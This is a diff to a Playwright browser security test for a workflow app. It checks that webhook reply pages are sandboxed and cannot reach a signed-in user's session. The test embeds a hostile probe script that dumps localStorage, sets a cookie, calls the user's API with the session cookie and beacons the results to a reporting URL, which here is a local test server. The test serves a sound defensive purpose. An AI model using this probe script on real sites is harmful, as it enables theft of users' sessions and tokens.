@@ -1,21 +1,27 @@
 /*
  * Issue 11 item 1: a page served by a trigger URL (a webhook.respond step with HTML and script)
- * must not run in the app's origin: it cannot read a signed-in user's token or set a cookie.
+ * must not run in the app's origin: it cannot read a signed-in user's session (token, cookie, or
+ * the API called with the session cookie) or set a cookie.
  * Also checks that the editor and Swagger UI load under their CSP with no violation.
  */
 import { createServer, type Server } from 'node:http';
 import type { Browser, BrowserContext, ConsoleMessage, Page } from 'playwright-core';
 import { launchChromium, startBackend, type RunningBackend } from './support/hookflow-backend';
 
-const TOKEN_KEY = 'hookflow.token';
+const EMAIL = 'victim@example.com';
+const PASSWORD = 'correct horse battery';
 
-/** Tries what a hostile reply page would, and reports it with an image request to `reportUrl`. */
+/**
+ * Tries what a hostile reply page would: read stored tokens and cookies, set a cookie, call the
+ * API with the browser's session; reports what it got with an image request to `reportUrl`.
+ */
 const probePage = (reportUrl: string) => `<!doctype html><title>probe</title><script>
   var found = [];
-  try { found.push('token=' + localStorage.getItem('${TOKEN_KEY}')); } catch (e) { found.push('storage-blocked'); }
+  try { found.push('storage=' + JSON.stringify(localStorage)); } catch (e) { found.push('storage-blocked'); }
   try { document.cookie = 'stolen=1; path=/'; found.push('cookie=' + document.cookie); } catch (e) { found.push('cookie-blocked'); }
   document.title = 'probe ran';
-  new Image().src = '${reportUrl}?' + encodeURIComponent(found.join('&'));
+  var report = function () { new Image().src = '${reportUrl}?' + encodeURIComponent(found.join('&')); };
+  fetch('/api/me').then(function (r) { return r.text(); }).then(function (t) { found.push('me=' + t.slice(0, 200)); }, function () { found.push('me-blocked'); }).then(report);
 </script>`;
 
 /** A local server that records probe reports and serves the probe on a plain page (control). */
@@ -76,8 +82,8 @@ test('the editor and Swagger UI load under their CSP without violations', async 
   const baseUrl = backend!.baseUrl;
   await page.goto(`${baseUrl}/signup`);
   await page.getByLabel('Name').fill('Victim');
-  await page.getByLabel('E-mail').fill('victim@example.com');
-  await page.getByLabel('Password').fill('correct horse battery');
+  await page.getByLabel('E-mail').fill(EMAIL);
+  await page.getByLabel('Password').fill(PASSWORD);
   await page.getByRole('button', { name: 'Sign up' }).click();
   await page.waitForURL(`${baseUrl}/flows`);
   await page.getByRole('button', { name: 'New flow' }).click();
@@ -93,9 +99,19 @@ test('the editor and Swagger UI load under their CSP without violations', async 
   expect(cspViolations).toEqual([]);
 });
 
-test('a trigger reply page cannot read the signed-in token or set a cookie', async () => {
+test('a trigger reply page cannot read the signed-in session or set a cookie', async () => {
   const baseUrl = backend!.baseUrl;
-  const token = await page.evaluate((key) => localStorage.getItem(key), TOKEN_KEY);
+  const sessionCookies = async () =>
+    (await context.cookies(`${baseUrl}/api/me`)).filter((cookie) => cookie.name === 'hf_session');
+  const [session] = await sessionCookies();
+  expect(session?.value).toBeTruthy();
+  // The test's own API calls: the same user, with a bearer token.
+  const login = await fetch(`${baseUrl}/api/auth/login`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ email: EMAIL, password: PASSWORD, session: 'bearer' }),
+  });
+  const { token } = (await login.json()) as { token: string };
   expect(token).toBeTruthy();
   const api = async (method: string, path: string, body?: unknown) => {
     const response = await fetch(baseUrl + path, {
@@ -143,7 +159,7 @@ test('a trigger reply page cannot read the signed-in token or set a cookie', asy
   await control.goto(`${reporter!.base}/page`);
   await until(() => reporter!.reports.length > 0, 5000);
   expect(await control.title()).toBe('probe ran');
-  expect(reporter!.reports[0]).toContain('token=null');
+  expect(reporter!.reports[0]).toContain('cookie=stolen=1');
   await controlContext.close();
   reporter!.reports.length = 0;
 
@@ -151,7 +167,7 @@ test('a trigger reply page cannot read the signed-in token or set a cookie', asy
   const response = await hostile.goto(String(flow.body.testWebhookUrl));
   expect(response?.status()).toBe(200);
   expect(response?.headers()['content-security-policy']).toBe("sandbox; default-src 'none'");
-  expect(await hostile.content()).toContain('localStorage.getItem');
+  expect(await hostile.content()).toContain("fetch('/api/me')");
   await until(() => reporter!.reports.length > 0, 1500);
   expect(reporter!.reports).toEqual([]);
   expect(await hostile.title()).toBe('probe');
@@ -159,6 +175,7 @@ test('a trigger reply page cannot read the signed-in token or set a cookie', asy
 
   const cookies = await context.cookies(baseUrl);
   expect(cookies.map((cookie) => cookie.name)).not.toContain('stolen');
-  expect(cookies.map((cookie) => cookie.name)).not.toContain('hf_session');
-  expect(await page.evaluate((key) => localStorage.getItem(key), TOKEN_KEY)).toBe(token);
+  // The reply's `Set-Cookie: hf_session=x` was stripped: the session is the one signed in.
+  expect((await sessionCookies()).map((cookie) => cookie.value)).toEqual([session.value]);
+  expect(cookies.filter((cookie) => cookie.value === 'x')).toEqual([]);
 });
